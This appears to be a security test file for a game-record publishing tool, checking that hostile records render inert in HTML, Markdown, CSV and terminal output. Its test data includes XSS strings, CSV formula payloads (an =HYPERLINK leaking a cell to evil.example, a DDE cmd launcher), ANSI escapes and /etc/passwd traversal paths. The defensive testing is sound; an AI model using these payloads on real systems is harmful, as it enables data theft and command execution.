"""The hostile corpus (tests/hostile_records.py) published every way, checked file by file.

docs/publishing.md#safety: record text is text everywhere; what cannot be shown safely is
refused when read; the plugin reads only the folders it is given; spreadsheets and
terminals get nothing they would run.
"""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import subprocess
import sys
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import markdown
import pytest
import yaml
from hostile_records import (CORPUS, PUBLISHED, REFUSED, SCRIPT_SCHEMES, build_everything, build_plugin_site,
                             run_cli, write_corpus)

from ludoscribe.notation import read_string
from ludoscribe.render.escaping import html_text, visible
from ludoscribe.render.site.engine import site_engine

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset", "background"}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class Page(HTMLParser):
    """What a browser would act on in a page: URLs, event handlers, scripts; and its text."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.urls: list[str] = []
        self.handlers: list[str] = []
        self.scripts: list[str] = []
        self.text: list[str] = []
        self.elements: list[str] = []
        self._in_script = False
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(tag)
        for name, value in attrs:
            if name in URL_ATTRIBUTES and value is not None:
                self.urls.append(value)
            if name.startswith("on"):
                self.handlers.append(f"{name}={value}")
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        (self.scripts if self._in_script else self.text).append(data)


def script_url(url: str) -> bool:
    """A URL a browser would run or render as a document: javascript:, data:, vbscript:
    (browsers drop ASCII whitespace and control characters before reading the scheme)."""
    cleaned = re.sub(r"[\x00-\x20]", "", unescape(url)).lower()
    return cleaned.startswith(SCRIPT_SCHEMES)


def assert_inert(text: str, where: object) -> Page:
    """No script URL, no handler or script that a record wrote, no element a record made."""
    page = Page(text)
    assert not [url for url in page.urls if script_url(url)], where
    assert not [handler for handler in page.handlers if "alert" in handler or "msgbox" in handler], where
    assert not [script for script in page.scripts if "alert(" in script or "msgbox(" in script], where
    assert "img" not in page.elements or not any(url == "x" for url in page.urls), where
    assert not {"iframe", "object", "embed", "b"} & set(page.elements), where
    return page


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile-all")
    return root, build_everything(root)


def html_files(folder: Path) -> list[Path]:
    return sorted(path for path in folder.rglob("*.html"))


def test_the_corpus_covers_every_class_and_reads_as_declared():
    assert {hostile.attack for hostile in CORPUS} >= {"html", "markdown", "yaml", "line break", "csv", "terminal",
                                                       "path"}
    assert (len(PUBLISHED), len(REFUSED)) == (15, 5)  # the tests below go through each of these
    for hostile in CORPUS:
        (record,) = read_string(hostile.text)
        from ludoscribe.notation import check
        check(record)
        assert [str(problem) for problem in record.problems] == ([hostile.refused] if hostile.refused else []), \
            hostile.name


def test_every_built_page_is_inert(built):
    _, folders = built
    pages = [path for kind, folder in folders.items() if kind != "embedded" for path in html_files(folder)]
    assert len(pages) > 2 * len(PUBLISHED)
    for path in pages:
        assert_inert(path.read_text(encoding="utf-8"), path)


def test_every_embedded_viewer_is_inert(built):
    """convert --to embed: the viewer the JSON carries, as viewer.js puts it into a page, is inert
    too (tests/test_browser_hostile.py opens the pages holding it)."""
    _, folders = built
    documents = sorted(folders["embedded"].glob("*.json"))
    assert len(documents) == len(PUBLISHED)
    for path in documents:
        document = json.loads(path.read_text(encoding="utf-8"))
        assert document["format"] == "ludoscribe-viewer"
        assert "<" not in path.read_text(encoding="utf-8")  # it can sit inside a script element
        assert_inert(document["html"], path)


def test_record_text_is_shown_as_written(built):
    """Every tag value of every published record can be read, as text, on the site's pages."""
    _, folders = built
    for theme in ("site-material", "site-mkdocs"):
        shown = " ".join(" ".join(Page(path.read_text(encoding="utf-8")).text)
                         for path in html_files(folders[theme] / "records"))
        for hostile in PUBLISHED:
            (record,) = read_string(hostile.text)
            for name, value in record.tags.items():
                assert visible(value).strip() in shown, (theme, hostile.name, name, value)
    page = (folders["site-material"] / "records").glob("club-night-ev-javascript-alert-2*.html")
    text = " ".join(Page(next(page).read_text(encoding="utf-8")).text)
    assert "[Ann](javascript:alert(1))\\x9b\\ufffe" in text


def test_front_matter_and_configuration_read_as_yaml(built):
    _, folders = built
    project = folders["site-material"].parent / "project-material"
    pages = sorted((project / "docs").rglob("*.md"))
    assert len(pages) >= len(PUBLISHED)
    for path in pages:
        text = path.read_text(encoding="utf-8")
        front, body = re.fullmatch(r"---\n(.*?)\n---\n\n(.*)", text, re.DOTALL).groups()
        meta = yaml.safe_load(front)
        record_page = path.parent.name in ("records", "openings")  # no table of contents: room for the board
        assert list(meta) == (["title", "hide"] if record_page else ["title"]) and front.isascii(), path
        assert meta.get("hide", ["toc"]) == ["toc"], path
        heading = body.split("\n", 1)[0]
        assert heading.startswith("# ") and unescape(meta["title"]) == unescape(heading[2:]), path
    config = yaml.safe_load((project / "mkdocs.yml").read_text(encoding="utf-8"))
    assert config["plugins"] == ["search", {"ludoscribe": {"theme_contrast": True}}] and config["use_directory_urls"] is False


def test_site_title_with_control_characters_and_markup(tmp_path):
    write_corpus(tmp_path / "in")
    title = 'Club\x7f "night" [x](javascript:alert(1)) </title><script>alert(2)</script> 😀'
    result = run_cli("site", tmp_path / "in" / "paths.tgn", "-o", tmp_path / "site", "--title", title)
    assert result.exit_code == 0, result.output
    index = (tmp_path / "site" / "index.html").read_text(encoding="utf-8")
    assert_inert(index, "index")
    assert f"<title>{html_text(title)}" in index
    assert "Club\\x7f &quot;night&quot; [x](javascript:alert(1)) &lt;/title&gt;" in index


def test_refused_records_are_reported_and_left_out(built):
    root, folders = built
    result = run_cli("check", root / "in")
    assert result.exit_code == 1
    for hostile in REFUSED:
        assert f"{root / 'in' / hostile.name}.tgn:{hostile.refused}\n" in result.output
    pages = html_files(folders["site-mkdocs"] / "records")
    assert len(pages) == len(PUBLISHED)
    for hostile in REFUSED:
        assert run_cli("convert", root / "in" / f"{hostile.name}.tgn", "--to", "html").exit_code == 1


def test_no_page_holds_a_fake_fence_or_an_error_box(built):
    """Line breaks never reach the generated Markdown, so the plugin sees no block there."""
    _, folders = built
    for theme in ("material", "mkdocs"):
        pages = html_files(folders[f"site-{theme}"])
        sources = sorted((folders[f"site-{theme}"].parent / f"project-{theme}" / "docs").rglob("*.md"))
        assert len(pages) > len(PUBLISHED) and len(sources) > len(PUBLISHED)
        for path in pages:
            assert "ls-error" not in path.read_text(encoding="utf-8"), path
        for path in sources:
            text = path.read_text(encoding="utf-8")
            assert not set(text) & set("\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"), path
            assert not re.search(r"^ {0,3}(```|~~~)", text, re.MULTILINE), path


def test_converted_markdown_renders_inert_with_common_extensions(built):
    _, folders = built
    extensions = ["tables", "toc", "attr_list", "md_in_html", "fenced_code", "def_list", "pymdownx.magiclink",
                  "pymdownx.tilde", "pymdownx.caret", "pymdownx.mark", "pymdownx.betterem"]
    for hostile in PUBLISHED:
        text = (folders["converted"] / hostile.name / f"{hostile.name}.md").read_text(encoding="utf-8")
        html = markdown.markdown(text, extensions=extensions)
        page = assert_inert(html, hostile.name)
        assert [url for url in page.urls if not re.fullmatch(rf"{re.escape(hostile.name)}-\d{{3}}\.svg", url)] == []
        assert not {"a", "code", "mark", "sup", "sub", "h3", "h4", "dl"} & set(page.elements)  # em: comments
        # del: only what a correction took back (docs/tournaments.md#corrections), never ~~text~~ of a record
        assert page.elements.count("del") == len(re.findall(r"\[%undone [^\]]", hostile.text)), hostile.name


def test_plugin_pages_show_every_record(built):
    _, folders = built
    index = (folders["plugin"] / "index.html").read_text(encoding="utf-8")
    assert index.count('<div class="ls-record"') == len(PUBLISHED)
    inline = (folders["plugin"] / "inline" / "index.html") if (folders["plugin"] / "inline").is_dir() else \
        folders["plugin"] / "inline.html"
    assert inline.read_text(encoding="utf-8").count('<div class="ls-record"') == len(PUBLISHED)


@pytest.mark.parametrize("path", ["../secret.tgn", "../../../../../../etc/passwd", "/etc/passwd", "records/../../secret.tgn",
                                  "docs/../mkdocs.yml", "linked/secret.tgn"])
def test_plugin_reads_stored_records_only_from_its_folders(tmp_path, path):
    root = tmp_path / "project"
    (tmp_path / "secret.tgn").write_text(PUBLISHED[0].text, encoding="utf-8")
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "secret.tgn").write_text(PUBLISHED[0].text, encoding="utf-8")
    (root / "docs").mkdir(parents=True)
    os.symlink(tmp_path / "outside", root / "docs" / "linked")
    records = tmp_path / "in"
    write_corpus(records)
    assert build_plugin_site(root, records).returncode == 0
    (root / "docs" / "bad.md").write_text(f"# Bad\n\n```tgn-file\npath: {path}\n```\n", encoding="utf-8")
    result = build_plugin_site(root, records)
    assert result.returncode != 0
    message = f"{path} is outside the folders records are read from (docs, records): " \
              "add its folder to the plugin's record_dirs in mkdocs.yml"
    assert f"bad.md: ```tgn-file block 1: {message}" in result.stderr
    assert "Traceback" not in result.stderr


def test_plugin_reads_stored_records_in_docs_and_record_dirs(tmp_path):
    records = tmp_path / "in"
    write_corpus(records)
    root = tmp_path / "project"
    (root / "docs" / "games").mkdir(parents=True)
    (root / "docs" / "games" / "own.tgn").write_text(PUBLISHED[0].text, encoding="utf-8")
    (root / "docs" / "own.md").write_text("# Own\n\n```tgn-file\npath: docs/games/own.tgn\n```\n", encoding="utf-8")
    result = build_plugin_site(root, records)
    assert result.returncode == 0, result.stderr
    assert '<div class="ls-record" id="ls1">' in (root / "site" / "own.html").read_text(encoding="utf-8")


def test_standings_csv_runs_no_formula(built):
    root, _ = built
    result = run_cli("standings", root / "in", "--format", "csv")
    assert result.exit_code == 1
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    players = {row[2] for row in rows[1:]}
    assert {"'=HYPERLINK(\"http://evil.example/?\"&A1,\"win\")", "'+1-1", "'-2+3", "'=1+1", "x;=1+1",
            'a,"=2+2'} <= players
    assert {row[0] for row in rows[1:]} >= {"'@SUM(1+1)*cmd|' /C calc'!A0"}
    assert all(line.startswith('"') and line.endswith('"') for line in result.stdout.splitlines())


def test_text_output_prints_no_terminal_control(built, tmp_path):
    root, _ = built
    named = tmp_path / "\x1b[31mred\x07.tgn"
    named.write_text(REFUSED[0].text, encoding="utf-8")
    for args in (["standings", root / "in"], ["check", root / "in", named], ["site", root / "in", "-o", tmp_path / "s"],
                 ["convert", named, "--to", "tgn", "-o", tmp_path / "out.tgn"]):
        result = run_cli(*args)
        for stream in (result.stdout, result.stderr):
            assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", stream), (args, stream)
    standings = run_cli("standings", root / "in").stdout
    assert "\\x1b[31mEve\\x1b[0m\\x1b]8;;http://x\\x07" in standings and "\\x1b[2J\\x1b[HCleared" in standings
    assert "\\x1b[31mred\\x07.tgn:7:10: tag Red" in run_cli("check", named).output


def test_standings_markdown_and_html_are_inert(built):
    root, _ = built
    text = run_cli("standings", root / "in", "--format", "markdown").stdout
    page = assert_inert(markdown.markdown(text, extensions=["tables", "attr_list", "toc"]), "markdown")
    assert not {"a", "em", "code", "img"} & set(page.elements)
    assert_inert(run_cli("standings", root / "in", "--format", "html").stdout, "html")


def run_in_terminal(*args: object) -> str:
    """What the command prints when its standard output is a terminal (a pseudo-terminal here)."""
    leader, follower = pty.openpty()
    command = [sys.executable, "-c", "from ludoscribe.cli.main import main; main()", *map(str, args)]
    process = subprocess.Popen(command, stdout=follower, stderr=subprocess.DEVNULL)
    os.close(follower)
    chunks = []
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # the terminal closed
            break
        if not chunk:
            break
        chunks.append(chunk)
    process.wait()
    os.close(leader)
    return b"".join(chunks).decode("utf-8").replace("\r\n", "\n")


def test_data_printed_to_a_terminal_is_escaped_and_piped_data_kept(built):
    root, _ = built
    hostile = root / "in" / "terminal-escapes.tgn"
    for args in (["convert", hostile, "--to", "tgn"], ["convert", hostile, "--to", "json"],
                 ["standings", root / "in", "--format", "csv"], ["convert", hostile, "--to", "html"]):
        shown = run_in_terminal(*args)
        assert "\\x1b[31mEve" in shown or "\\\\x1b[31mEve" in shown or "\\u001b[31mEve" in shown, args
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", shown), args
    piped = run_cli("convert", hostile, "--to", "tgn").stdout
    assert '[Yellow "\x1b[31mEve\x1b[0m\x1b]8;;http://x\x07"]' in piped  # data kept byte for byte


def test_json_strings_with_a_lone_surrogate_are_refused(tmp_path):
    """JSON can escape half a surrogate pair; no page, file or terminal could hold it (docs/json.md)."""
    document = ('{"format": "tgn-json", "version": 1, "records": [{"tags": {"Game": "Teblo", "Event": "E\\\\ud800",'
                ' "Result": "*"}, "moves": [], "result": "*"}, {"tags": {"Game": "Teblo", "Result": "*"},'
                ' "comments": ["c\\\\udfff"], "moves": [], "result": "*"}, {"tags": {"Game": "Teblo",'
                ' "Yellow": "\\\\ud83d\\\\ude00", "Result": "*"}, "moves": [], "result": "*"}]}')
    (tmp_path / "in.json").write_text(document.replace("\\\\", "\\"), encoding="utf-8")
    result = run_cli("check", tmp_path / "in.json")
    assert result.exit_code == 1
    assert "$.records[0].tags.Event: not text: a lone surrogate \\ud800 (half of a character)\n" in result.output
    assert "$.records[1].comments[0]: not text: a lone surrogate \\udfff (half of a character)\n" in result.output
    assert "1 valid, 2 with problems" in result.output  # a whole pair (an emoji) is text
    result = run_cli("site", tmp_path / "in.json", "-o", tmp_path / "site")
    assert result.exit_code == 1 and "internal error" not in result.output


def test_site_fails_when_a_record_page_shows_an_error_box(tmp_path, monkeypatch):
    """Were a record page to hold a block the plugin cannot render, the build would fail, not exit 0."""
    from ludoscribe.render.site import pages as site_pages

    def broken_page(record, replayed, path: str, links: dict, openings=None, tree=None, language="en") -> None:
        Path(path).write_text("# Broken\n\n```tgn\nnot a record\n```\n", encoding="utf-8")

    monkeypatch.setattr(site_pages, "write_page", broken_page)
    write_corpus(tmp_path / "in")
    result = run_cli("site", tmp_path / "in" / "paths.tgn", "-o", tmp_path / "site")
    assert result.exit_code == 2
    engine = site_engine()  # the one this process builds with: ProperDocs or MkDocs (tests/test_site_engines.py)
    assert re.search(rf"{engine}: WARNING: ludoscribe: records/[a-z0-9-]+\.md: ```tgn block 1:", result.output)
    assert f"{engine}: 1 record page(s) could not show their record (see above)\n" in result.output
